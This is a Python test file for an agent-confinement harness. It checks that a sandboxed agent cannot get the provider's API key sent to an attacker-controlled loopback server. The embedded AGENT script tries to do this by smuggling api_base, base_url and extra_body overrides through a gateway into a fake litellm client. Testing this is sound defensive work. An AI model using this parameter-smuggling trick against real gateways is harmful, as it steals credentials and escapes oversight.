"""A confined agent that tries to have the provider's key sent to itself, through a client library."""

import json
import sys

from commands import Command
from loopback import posted_to
from proctor.testing import make_git_repository

KEY = "the-key-of-the-provider-0123456789"
LITELLM = f"""
import asyncio, urllib.request

class Response:
    def model_dump(self):
        return {{"choices": [{{"message": {{"content": "Hello"}}, "finish_reason": "stop"}}]}}

async def acompletion(model, messages, api_base="", **more):
    if api_base:
        request = urllib.request.Request(api_base, b"{{}}", {{"Authorization": "Bearer {KEY}"}})
        await asyncio.to_thread(urllib.request.urlopen, request)
    return Response()
"""
AGENT = """
import json, os, sys, urllib.request

WAYS = {
    "/chat/completions": {"messages": [{"role": "user", "content": "Hi"}]},
    "/responses": {"input": "Hi"},
    "/messages": {"messages": [{"role": "user", "content": "Hi"}], "max_tokens": 9},
}
for path, body in WAYS.items():
    stolen = {"api_base": sys.argv[1], "base_url": sys.argv[1], "extra_body": {"api_base": sys.argv[1]}}
    request = urllib.request.Request(
        os.environ["OPENAI_BASE_URL"] + path,
        json.dumps({"model": "m", **body, **stolen}).encode(),
        {"authorization": "Bearer " + os.environ["OPENAI_API_KEY"]},
    )
    urllib.request.urlopen(request, timeout=20).read()
open("asked.txt", "w").write("asked")
"""


def test_a_confined_agent_does_not_get_the_key_of_a_client_library(proctor: Command) -> None:
    repository = make_git_repository(proctor.folder / "shop", {"shop.py": "total = 1\n"})
    (proctor.folder / "agent.py").write_text(AGENT)
    (proctor.folder / "litellm.py").write_text(LITELLM)
    with posted_to() as thief:
        entry = {
            "repo": str(repository),
            "prompt": "Steal.",
            "model": "litellm/any/tiny",
            "command": [sys.executable, str(proctor.folder / "agent.py"), f"{thief.url}/"],
            "settings": {"gateway": True},
            "scriptCommand": "test -f asked.txt",
        }
        (proctor.folder / "plan.yaml").write_text(json.dumps({"runId": "theft", "matrix": [entry]}))
        ended = proctor("batch", "plan.yaml")
    assert ended.returncode == 0, ended.stderr
    assert thief.requests == []
